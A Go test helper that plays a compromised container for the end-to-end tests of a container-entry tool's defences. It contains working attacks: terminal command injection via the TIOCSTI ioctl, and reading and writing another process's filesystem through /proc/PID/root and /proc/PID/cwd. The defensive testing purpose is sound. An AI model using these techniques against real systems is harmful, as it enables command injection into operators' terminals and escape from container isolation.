// Command hostile is what a compromised container does to the tools that
// enter it. The end-to-end tests of ctr-enter's defences run it inside
// their targets (bind-mounted, static: CGO_ENABLED=0) and read what it
// prints; each line says what it tried and whether it got through.
//
//	hostile tiocsti               type into the controlling terminal, if any
//	hostile procroot MARK PATH... find the process whose command line holds
//	                              MARK, read PATH through its /proc/PID/root
//	                              and /proc/PID/cwd, and write into its root
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: hostile tiocsti | procroot MARK PATH...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "tiocsti":
		tiocsti()
	case "procroot":
		procroot(os.Args[2], os.Args[3:])
	default:
		fmt.Fprintln(os.Stderr, "hostile: unknown attack", os.Args[1])
		os.Exit(2)
	}
}

// tiocsti pushes a command line into the input of its controlling
// terminal, as if the operator had typed it.
func tiocsti() {
	// Field 7 of stat: the controlling terminal's device number, 0 for
	// none (the process's own word, whatever /dev holds).
	if st, err := os.ReadFile("/proc/self/stat"); err == nil {
		if i := bytes.LastIndexByte(st, ')'); i > 0 {
			if f := strings.Fields(string(st[i+2:])); len(f) > 4 {
				fmt.Println("tty_nr", f[4])
			}
		}
	}
	tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		fmt.Println("no controlling terminal:", err)
		return
	}
	for _, c := range []byte("echo PWNED-BY-TARGET\n") {
		if err := unix.IoctlSetPointerInt(int(tty.Fd()), unix.TIOCSTI, int(c)); err != nil {
			// The pointer is to one byte; the int's low byte is it on
			// little-endian machines.
			fmt.Println("TIOCSTI refused:", err)
			return
		}
	}
	fmt.Println("INJECTED into the controlling terminal")
}

// procroot looks, for up to 10 seconds, for a process whose command line
// holds mark, and reads each path through its root and its working
// directory.
func procroot(mark string, paths []string) {
	pid := 0
	for deadline := time.Now().Add(10 * time.Second); pid == 0 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, d := range dirs {
			n, _ := strconv.Atoi(filepath.Base(d))
			cl, _ := os.ReadFile(d + "/cmdline")
			if n != os.Getpid() && bytes.Contains(cl, []byte(mark)) && !bytes.Contains(cl, []byte("procroot")) {
				pid = n
			}
		}
	}
	if pid == 0 {
		fmt.Println("no process with", mark)
		return
	}
	fmt.Println("found pid", pid)
	for _, p := range paths {
		for _, via := range []string{"root", "cwd"} {
			b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s/%s", pid, via, p))
			if err != nil {
				fmt.Printf("denied %s %s: %v\n", via, p, err)
			} else {
				fmt.Printf("READ %s %s: %q\n", via, p, bytes.TrimSpace(b))
			}
		}
	}
	w := fmt.Sprintf("/proc/%d/root/tmp/hostile-wrote-%d", pid, os.Getpid())
	if err := os.WriteFile(w, []byte("pwned"), 0o644); err != nil {
		fmt.Println("denied write:", err)
	} else {
		fmt.Println("WROTE", w)
	}
}
